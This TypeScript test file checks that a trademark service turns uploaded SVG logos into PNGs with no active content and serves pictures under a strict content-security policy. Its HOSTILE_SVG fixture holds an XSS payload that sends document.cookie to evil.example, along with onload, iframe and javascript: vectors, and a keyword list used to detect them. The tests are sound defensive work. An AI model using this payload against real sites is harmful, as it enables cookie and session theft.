import { createHash } from 'node:crypto';
import type { FastifyInstance } from 'fastify';
import sharp from 'sharp';
import {
  gazettePageUrl,
  markImageUrl,
  UPLOAD_IMAGE_PATH,
  type UploadImageResult,
} from 'shared-api/contract';
import { runFileImport } from '../../../src/register/run-import';
import { SVG_LOGO_SIZE } from '../../../src/register/svg-to-png';
import { body, build, nextIp } from '../../helper';
import { multipartBody } from '../../image-search/multipart';
import { ONE_PIXEL_PNG, sampleRecord, writeJsonl } from '../../register/fixtures';

/** A logo as an attacker would send it: script, an event attribute, HTML, outside links. */
const HOSTILE_SVG = Buffer.from(
  '<?xml version="1.0"?>\n' +
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ' +
    'width="40" height="20" viewBox="0 0 40 20" onload="alert(document.cookie)">' +
    '<script>fetch("https://evil.example/steal?c="+document.cookie)</script>' +
    '<foreignObject width="40" height="20"><div xmlns="http://www.w3.org/1999/xhtml">' +
    '<iframe src="https://evil.example/frame"></iframe></div></foreignObject>' +
    '<image href="https://evil.example/tracker.png" width="40" height="20"/>' +
    '<a xlink:href="javascript:alert(1)"><circle cx="20" cy="10" r="8" fill="#ff0000"/></a>' +
    '</svg>',
);
const TRACES = [
  'script',
  'onload',
  'alert',
  'foreignObject',
  'iframe',
  'evil.example',
  'javascript',
];

const CSP = "default-src 'none'; style-src 'unsafe-inline'; sandbox";

let app: FastifyInstance;
beforeAll(async () => {
  app = await build();
  const file = await writeJsonl([sampleRecord(1, { imagePath: 'hostile.svg' }), sampleRecord(2)], {
    'hostile.svg': HOSTILE_SVG,
  });
  await runFileImport(app.db, file);
});
afterAll(() => app.close());

const get = (url: string) => app.inject({ method: 'GET', url });

async function storedLogo(regNo: string) {
  const { rows } = await app.db.query<{ sha256: string; mime: string; bytes: Uint8Array }>(
    `SELECT i.sha256, i.mime, i.bytes FROM trademarks t JOIN mark_images i ON i.id = t.image_id
     WHERE t.reg_no = $1`,
    [regNo],
  );
  return { ...rows[0]!, bytes: Buffer.from(rows[0]!.bytes) };
}

const expectPictureHeaders = (headers: Record<string, unknown>) => {
  expect(headers['content-security-policy']).toBe(CSP);
  expect(headers['x-content-type-options']).toBe('nosniff');
};

describe('an imported SVG logo', () => {
  it('is stored and served as a PNG drawing of it, with none of its active content', async () => {
    const logo = await storedLogo('30000001');
    expect(logo.mime).toBe('image/png');
    const res = await get(markImageUrl(logo.sha256));
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('image/png');
    expectPictureHeaders(res.headers);
    for (const bytes of [logo.bytes, res.rawPayload]) {
      expect(bytes.subarray(0, 8).toString('latin1')).toBe('\x89PNG\r\n\x1a\n');
      const text = bytes.toString('latin1');
      for (const trace of TRACES) expect(text).not.toContain(trace);
    }
  });

  it('keeps its shape at a sensible size on a transparent background', async () => {
    const { bytes } = await storedLogo('30000001');
    const { data, info } = await sharp(bytes).raw().toBuffer({ resolveWithObject: true });
    expect([info.width, info.height]).toEqual([SVG_LOGO_SIZE, SVG_LOGO_SIZE / 2]);
    expect(info.channels).toBe(4);
    const pixel = (x: number, y: number) => {
      const at = (y * info.width + x) * 4;
      return [...data.subarray(at, at + 4)];
    };
    expect(pixel(info.width / 2, info.height / 2)).toEqual([255, 0, 0, 255]); // the circle
    expect(pixel(2, 2)[3]).toBe(0); // outside it: transparent
  });

  it('a file that only claims to be SVG stops the import with its line', async () => {
    const file = await writeJsonl([sampleRecord(3, { imagePath: 'broken.svg' })], {
      'broken.svg': Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><rect'),
    });
    await expect(runFileImport(app.db, file)).rejects.toThrow('第 1 行：SVG 图片无法读取');
  });
});

describe('every picture route answers with the picture headers', () => {
  it('a logo stored as SVG before imports were rasterised (or a generated one)', async () => {
    const sha = createHash('sha256').update(HOSTILE_SVG).digest('hex');
    await app.db.query('INSERT INTO mark_images (sha256, mime, bytes) VALUES ($1, $2, $3)', [
      sha,
      'image/svg+xml',
      HOSTILE_SVG,
    ]);
    const res = await get(markImageUrl(sha));
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('image/svg+xml');
    expectPictureHeaders(res.headers);
  });

  it('an uploaded search picture', async () => {
    const png = await sharp(ONE_PIXEL_PNG).resize(16, 16).png().toBuffer();
    const form = multipartBody(
      { type: '2' },
      { imgFile: { bytes: png, filename: 'a.png', type: 'image/png' } },
    );
    const uploaded = await app.inject({
      method: 'POST',
      url: UPLOAD_IMAGE_PATH,
      remoteAddress: nextIp(),
      ...form,
    });
    const res = await get(body<UploadImageResult>(uploaded).data.absolutePath);
    expect(res.statusCode).toBe(200);
    expectPictureHeaders(res.headers);
  });

  it('a gazette page (a drawn SVG)', async () => {
    const res = await get(gazettePageUrl(1626, 36, 11));
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('image/svg+xml');
    expectPictureHeaders(res.headers);
  });
});
